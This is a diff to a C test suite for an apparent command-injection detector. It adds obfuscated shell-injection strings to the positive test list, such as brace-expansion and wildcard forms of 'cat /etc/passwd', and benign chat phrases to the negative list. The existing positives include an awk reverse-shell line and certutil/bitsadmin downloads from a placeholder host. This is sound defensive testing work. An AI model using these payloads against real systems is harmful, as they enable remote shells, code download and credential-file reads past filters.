@@ -147,7 +147,8 @@ WSG_TEST(cmdi_positives)
 		"awk 'begin {s = \"/inet/tcp/0/10.0.0.1/4242\"}'", "1 & ping -n 10 127.0.0.1 &",
 		"test | powershell -c get-process", "x | net localgroup administrators",
 		"certutil -urlcache -split -f http://x/a.exe a.exe",
-		"bitsadmin /transfer job http://x/a.exe c:\\a.exe", NULL,
+		"bitsadmin /transfer job http://x/a.exe c:\\a.exe", "{,ifconfig,eth0}",
+		"{,cd,/etc,}", "{,$\"whoami\",}", "{,/?s?/?i?/c?t,/e??/p??s??,}", "\\ls", NULL,
 	};
 
 	for (int i = 0; pos[i]; i++)
@@ -177,7 +178,11 @@ WSG_TEST(cmdi_chat_negatives)
 		"what's the date -f option for?", "!-) lol", "x | $a cat",
 		"my files are in c:\\users\\anna\\documents", "\\/etc that was",
 		"is /dev/tcp a real file?", "telnet is old | bash is better", "tom & ping pong",
-		"run xterm -display :0 on the box", "socat is like netcat", NULL,
+		"run xterm -display :0 on the box", "socat is like netcat",
+		"cat /etc/hosts shows it", "i'd rather && go", "bash -c is how you run a string",
+		"nc -l 1234 to test the port", "net user on windows lists accounts",
+		"/usr/bin/python3 is the default", "mv file{,.bak}", "cp /etc/fstab{,.orig}",
+		"head /etc/passwd shows users", NULL,
 	};
 
 	for (int i = 0; neg[i]; i++)
